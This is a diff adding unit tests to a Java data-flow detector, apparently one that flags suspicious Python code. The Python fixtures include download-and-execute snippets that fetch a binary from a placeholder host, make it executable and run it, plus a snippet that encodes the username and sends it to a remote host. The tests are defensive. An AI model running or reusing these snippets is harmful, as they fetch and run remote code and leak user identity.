@@ -297,6 +297,44 @@ class DataFlowTest {
     }
 
     @Test
+    void aDownloadWrittenThroughATemporaryFilesDescriptorIsInItsPath() {
+      assertThat(
+              reached(
+                  "runs-downloaded-file",
+                  lines(
+                      "import os, subprocess, tempfile, requests",
+                      "resp = requests.get('https://a.example/agent', timeout=9)",
+                      "fd, path = tempfile.mkstemp(prefix='.c-')",
+                      "with os.fdopen(fd, 'wb') as out:",
+                      "    out.write(resp.content)",
+                      "os.chmod(path, 0o700)",
+                      "subprocess.Popen([path], start_new_session=True)")))
+          .contains(7);
+      assertThat(
+              reached(
+                  "runs-downloaded-file",
+                  lines(
+                      "import os, subprocess, tempfile, urllib.request",
+                      "data = urllib.request.urlopen('https://a.example/agent').read()",
+                      "fd, path = tempfile.mkstemp()",
+                      "os.write(fd, data)",
+                      "os.close(fd)",
+                      "subprocess.Popen([path])")))
+          .contains(6);
+      assertThat(
+              reached(
+                  "runs-downloaded-file",
+                  lines(
+                      "import os, subprocess, tempfile, requests",
+                      "resp = requests.get('https://a.example/data.json', timeout=9)",
+                      "fd, path = tempfile.mkstemp()",
+                      "with os.fdopen(fd, 'w') as out:",
+                      "    out.write('[]')",
+                      "subprocess.run(['cat', path])")))
+          .isEmpty(); // what was written is the program's own text, not the download
+    }
+
+    @Test
     void aDnsAnswerIsReceivedFromTheNetwork() {
       assertThat(
               reached(
@@ -482,6 +520,28 @@ class DataFlowTest {
                       "print(out)",
                       "requests.post('https://s.example/x', data=b'done')")))
           .isEmpty(); // shown to the user; what is sent is something else
+    }
+
+    @Test
+    void theUsersIdentityUploadedOrPutInAQueryIsEvidence() {
+      assertThat(
+              reached(
+                  "identity-uploaded",
+                  lines(
+                      "import base64, getpass, json, requests",
+                      "profile = {'user': getpass.getuser()}",
+                      "q = base64.urlsafe_b64encode(json.dumps(profile).encode()).decode()",
+                      "requests.get('https://s.example/p.gif', params={'d': q})")))
+          .contains(4);
+      assertThat(
+              reached(
+                  "identity-uploaded",
+                  lines(
+                      "import socket, requests",
+                      "local_ip = socket.gethostbyname(socket.gethostname())",
+                      "print(local_ip)",
+                      "requests.get('https://api.example/v1/status')")))
+          .isEmpty(); // resolving one's own name is no upload, and the GET carries nothing of it
     }
 
     @Test
